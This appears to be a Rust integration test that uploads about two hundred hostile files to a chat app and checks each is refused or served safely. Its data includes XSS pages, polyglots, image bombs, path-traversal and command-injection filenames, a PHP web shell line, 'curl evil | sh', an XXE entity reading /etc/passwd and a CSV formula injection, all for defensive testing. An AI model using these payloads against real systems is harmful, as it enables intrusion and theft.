//! Two hundred files of people who mean no good. Each ends in a clear error or in a file that harms nobody.

use std::collections::BTreeMap;

use image::ImageFormat;
use reqwest::Method;
use serde_json::Value;
use tests::upload::{Part, bomb, encoded, moving, photograph, picture, tone};
use tests::{Answer, App, Person};

use super::{holds, url};

/// What must become of a file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum End {
    /// It is refused with this status.
    Refused(u16),
    /// It is kept, and harms nobody.
    Harmless,
    /// One of both.
    Either,
}

/// A file that somebody sends.
pub(super) struct Case {
    pub(super) what: String,
    name: String,
    claims: &'static str,
    pub(super) bytes: Vec<u8>,
    end: End,
}

fn case(what: impl Into<String>, name: &str, bytes: Vec<u8>, end: End) -> Case {
    Case { what: what.into(), name: name.into(), claims: "application/octet-stream", bytes, end }
}

/// What tells that a script ran, to whoever opened or embedded what it is in: `browser.rs` listens.
const RUN: &str = "(window.opener||parent).postMessage('ran '+location.href,'*')";
const SCRIPT: &[u8] = b"<script>(window.opener||parent).postMessage('ran '+location.href,'*')</script>";

/// A page with scripts.
pub(super) fn html() -> Vec<u8> {
    let begin = format!("<!DOCTYPE html><html><body onload=\"{RUN}\">");
    [begin.as_bytes(), SCRIPT, b"</body></html>"].concat()
}

/// A drawing with scripts.
pub(super) fn svg() -> Vec<u8> {
    let begin = format!("<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\">");
    [begin.as_bytes(), SCRIPT, b"</svg>"].concat()
}

/// A script.
pub(super) fn script() -> Vec<u8> {
    RUN.into()
}

/// Whole files of all kinds, by the ending that they should have.
fn good() -> Vec<(&'static str, Vec<u8>)> {
    let small = picture(40, 30);
    vec![
        ("png", encoded(&small, ImageFormat::Png)),
        ("jpg", photograph(40, 30)),
        ("gif", moving()),
        ("webp", encoded(&small, ImageFormat::WebP)),
        ("wav", tone()),
        ("mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom\0\0\0\x08free".to_vec()),
        ("pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF".to_vec()),
        ("zip", b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec()),
        ("html", html()),
        ("svg", svg()),
        ("js", script()),
    ]
}

/// Files whose names say something else than what is in them.
fn lies() -> Vec<Case> {
    let mut cases = Vec::new();
    for (kind, bytes) in good() {
        for ending in ["html", "svg", "js", "png", "mp4", "pdf"].into_iter().filter(|ending| *ending != kind)
        {
            let claims = match ending {
                "html" => "text/html",
                "svg" => "image/svg+xml",
                "js" => "text/javascript",
                "png" => "image/png",
                "mp4" => "video/mp4",
                _ => "application/pdf",
            };
            let lie =
                case(format!("{kind} as {ending}"), &format!("a.{ending}"), bytes.clone(), End::Harmless);
            cases.push(Case { claims, ..lie });
        }
    }
    cases
}

/// Files of two kinds at once.
fn polyglots() -> Vec<Case> {
    let mut cases = Vec::new();
    for (kind, bytes) in good() {
        for (other, tail) in [
            ("HTML", html()),
            ("SVG", svg()),
            ("a zip", b"PK\x03\x04\x14\0\0\0evil.exe".to_vec()),
            ("a program", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff".to_vec()),
        ] {
            let bytes = [bytes.as_slice(), &tail].concat();
            cases.push(case(
                format!("{kind} with {other} behind it"),
                &format!("a.{kind}"),
                bytes,
                End::Either,
            ));
        }
    }
    let gif = [b"GIF89a/*\0\0\0\0\0*/=1;".as_slice(), SCRIPT].concat();
    cases.push(case("a script that is called GIF89a", "a.gif", gif, End::Refused(415)));
    cases.push(case(
        "a PDF that begins late",
        "a.pdf",
        [&[b' '; 900], b"%PDF-1.7".as_slice()].concat(),
        End::Harmless,
    ));
    cases.push(case(
        "HTML with a mark of its order",
        "a",
        [b"\xef\xbb\xbf".as_slice(), &html()].concat(),
        End::Harmless,
    ));
    let utf16 = format!("<script>{RUN}</script>");
    let utf16 = utf16.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
    cases.push(case("HTML in UTF-16", "a.html", [b"\xff\xfe".as_slice(), &utf16].concat(), End::Harmless));
    cases.push(case(
        "HTML in UTF-7",
        "a.html",
        b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-".to_vec(),
        End::Harmless,
    ));
    cases.push(case("a page behind blanks", "a.txt", [vec![b'\n'; 9_000], html()].concat(), End::Harmless));
    cases.push(case(
        "an XSLT",
        "a.xml",
        b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#'?><a/>".to_vec(),
        End::Harmless,
    ));
    cases.push(case(
        "a web archive",
        "a.mht",
        b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>".to_vec(),
        End::Harmless,
    ));
    cases
}

/// Files that end too early.
fn truncated() -> Vec<Case> {
    let mut cases = Vec::new();
    for (kind, bytes) in good() {
        let end = |cut: usize| match kind {
            // What is recognised and not whole is refused.
            "png" | "jpg" | "webp" if cut >= 16 => End::Refused(415),
            _ => End::Either,
        };
        for cut in [1, 4, 16, bytes.len() / 2, bytes.len() - 1] {
            // All of the picture may be there without the last byte.
            let end = if cut == bytes.len() - 1 { End::Either } else { end(cut) };
            cases.push(case(
                format!("{cut} bytes of a {kind}"),
                &format!("a.{kind}"),
                bytes[..cut].to_vec(),
                end,
            ));
        }
    }
    cases.push(case("nothing", "a.png", Vec::new(), End::Refused(400)));
    cases
}

/// Small files that want to be large.
fn bombs() -> Vec<Case> {
    let mut cases = Vec::new();
    for (width, height) in
        [(65_535, 65_535), (100_000, 100_000), (1, 2_000_000_000), (2_000_000_000, 1), (7_100, 7_100)]
    {
        cases.push(case(
            format!("a PNG of {width}x{height}"),
            "a.png",
            bomb(width, height),
            End::Refused(413),
        ));
    }
    for (width, height) in [(0, 0), (0, 10), (10, 0), (1_000, 1_000)] {
        let what = format!("a PNG of {width}x{height}, which is not in it");
        cases.push(case(what, "a.png", bomb(width, height), End::Refused(415)));
    }
    let mut gif = moving();
    gif[6..10].copy_from_slice(&[0xff; 4]);
    cases.push(case("a GIF of 65535x65535", "a.gif", gif, End::Refused(413)));
    let mut webp = encoded(&picture(40, 30), ImageFormat::WebP);
    let at = webp.windows(4).position(|bytes| bytes == b"VP8L").unwrap() + 9;
    webp[at..at + 4].copy_from_slice(&[0xff, 0xff, 0xff, 0x0f]);
    cases.push(case("a WebP of 16384x16384", "a.webp", webp, End::Either));
    // A zip in which every name is the same and nothing fits: it is never opened here.
    let zip =
        b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0a\0".repeat(500);
    cases.push(case("a zip that says that it is huge", "a.zip", zip, End::Harmless));
    cases.push(case("zeroes", "zeroes.bin", vec![0; 2_000_000], End::Harmless));
    cases.push(case("too much of nothing", "a.txt", vec![b' '; 26_214_401], End::Refused(413)));
    cases
}

/// Names that want to be something else.
fn names() -> Vec<Case> {
    let long = format!("{}.txt", "n".repeat(300));
    let deep = "../".repeat(90) + "etc/passwd";
    let names = [
        "../../../../etc/passwd",
        "..\\\\..\\\\windows\\\\win.ini",
        "/etc/shadow",
        "C:\\\\autoexec.bat",
        "....//....//x",
        ".",
        "..",
        "...",
        "~",
        "~root/.ssh/authorized_keys",
        ".htaccess",
        "%2e%2e%2fetc%2fpasswd",
        "..%c0%af..%c0%afx",
        "a\u{202e}gnp.exe",
        "a\u{200b}.exe",
        "a\u{2028}b",
        "\u{feff}a.txt",
        "con",
        "nul.txt",
        "a.txt::$DATA",
        "a.php;.jpg",
        "a.html .png",
        "<img src=x onerror=alert(1)>.png",
        "'; DROP TABLE attachments; --",
        "$(touch x)`touch y`|z",
        "--help",
        "-rf",
        "a;b&c",
        "\u{1f4a9}.txt",
        "e\u{301}\u{301}\u{301}.txt",
        " ",
        &long,
        &deep,
    ];
    names
        .into_iter()
        .map(|name| case(format!("the name {name:?}"), name, b"text".to_vec(), End::Harmless))
        .collect()
}

/// What is no file for a chat.
fn programs() -> Vec<Case> {
    let elf = [b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".as_slice(), &[0; 40]].concat();
    let refused = [
        ("a program of Windows", "holiday.jpg", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec()),
        ("a program of Linux", "notes.txt", elf),
        ("a class of Java", "a.class", b"\xca\xfe\xba\xbe\0\0\0\x34".to_vec()),
        ("a module of WebAssembly", "a.wasm", b"\0asm\x01\0\0\0".to_vec()),
        ("a TIFF", "a.tif", b"II*\0\x08\0\0\0".to_vec()),
        ("a HEIC", "a.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic".to_vec()),
        ("an icon", "a.ico", b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0".to_vec()),
        ("a BMP", "a.bmp", [b"BM".as_slice(), &[0; 60]].concat()),
    ];
    let mut cases = refused
        .into_iter()
        .map(|(what, name, bytes)| case(what, name, bytes, End::Refused(415)))
        .collect::<Vec<_>>();
    let kept = [
        ("a shell script", "a.sh", b"#!/bin/sh\ncurl evil | sh\n".to_vec()),
        ("a batch file", "a.bat", b"@echo off\r\nformat c:\r\n".to_vec()),
        ("a shortcut", "a.url", b"[InternetShortcut]\r\nURL=file:///etc/passwd\r\n".to_vec()),
        ("a playlist", "a.mp4", b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n".to_vec()),
        ("a concat script", "a.mp4", b"ffconcat version 1.0\nfile /etc/passwd\n".to_vec()),
        ("a PHP page", "a.php", b"<?php system($_GET['c']); ?>".to_vec()),
        (
            "a bomb of entities",
            "a.xml",
            b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><l>&b;</l>".to_vec(),
        ),
        (
            "an entity of this machine",
            "a.xml",
            b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><l>&x;</l>".to_vec(),
        ),
        ("a formula", "a.csv", b"=cmd|'/c calc'!A1\n".to_vec()),
        ("an ANSI bomb", "a.txt", b"\x1b[2J\x1b]0;owned\x07".to_vec()),
    ];
    cases.extend(kept.into_iter().map(|(what, name, bytes)| case(what, name, bytes, End::Harmless)));
    cases
}

/// All of them.
pub(super) fn cases() -> Vec<Case> {
    [lies(), polyglots(), truncated(), bombs(), names(), programs()].into_iter().flatten().collect()
}

/// Uploads one of them.
pub(super) async fn send(person: &Person, case: &Case) -> Answer {
    let part = Part { claims: case.claims, ..Part::file(&case.name, &case.bytes) };
    person.bring(Method::POST, "/api/upload", &[part]).await
}

/// That nobody who downloads the file is harmed, whatever they do with it.
async fn is_harmless(person: &Person, what: &str, file: &Value) {
    let name = file["name"].as_str().unwrap();
    let odd = |c: char| {
        c.is_control() || matches!(c, '/' | '\\' | '\u{202e}' | '\u{200b}' | '\u{2028}' | '\u{feff}')
    };
    assert!(!name.is_empty() && name.chars().count() <= 200 && !name.contains(odd), "{what}: {name:?}");
    assert!(!name.starts_with('.'), "{what}: {name:?}");
    let got = person.fetch(&url(file), &[]).await;
    assert_eq!(got.status, 200, "{what}");
    assert_eq!(got.header("x-content-type-options"), "nosniff", "{what}");
    let policy = got.header("content-security-policy");
    assert!(policy.contains("default-src 'none'") && policy.contains("sandbox"), "{what}: {policy}");
    let (kind, disposition) = (got.header("content-type"), got.header("content-disposition"));
    for active in ["html", "xml", "svg", "script", "pdf; inline", "multipart", "mht"] {
        assert!(!kind.contains(active), "{what}: {kind}");
    }
    assert_eq!(disposition.matches('"').count(), 2, "{what}: {disposition}");
    let shown = kind.starts_with("image/") || kind.starts_with("video/") || kind.starts_with("audio/");
    assert!(shown || disposition.starts_with("attachment;"), "{what}: {kind}, {disposition}");
    if kind.starts_with("image/") {
        for secret in ["GPS-SECRET", "<script", "evil.exe"] {
            assert!(!holds(&got.bytes, secret), "{what} still has {secret}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn two_hundred_hostile_files_harm_nobody() {
    let app = App::start().await;
    let ada = app.person("ada").await;
    let cases = cases();
    assert!(cases.len() >= 200, "only {}", cases.len());
    let mut ends = BTreeMap::<u16, usize>::new();
    for case in &cases {
        let answer = send(&ada, case).await;
        let status = answer.status.as_u16();
        *ends.entry(status).or_default() += 1;
        let what = &case.what;
        match (case.end, status) {
            (End::Harmless | End::Either, 201) => {
                is_harmless(&ada, what, &answer.ok()["attachments"][0]).await
            }
            (End::Refused(expected), got) => assert_eq!(got, expected, "{what}: {}", answer.body),
            (End::Either, 400 | 413 | 415) => {}
            (end, got) => panic!("{what}: {got}, not {end:?}: {}", answer.body),
        }
    }
    let kept = i64::try_from(ends[&201]).unwrap();
    assert_eq!(app.count("attachments").await, kept, "{ends:?}");
    for path in app.files() {
        assert!(path.starts_with("attachments/any/"), "{path}");
    }
}
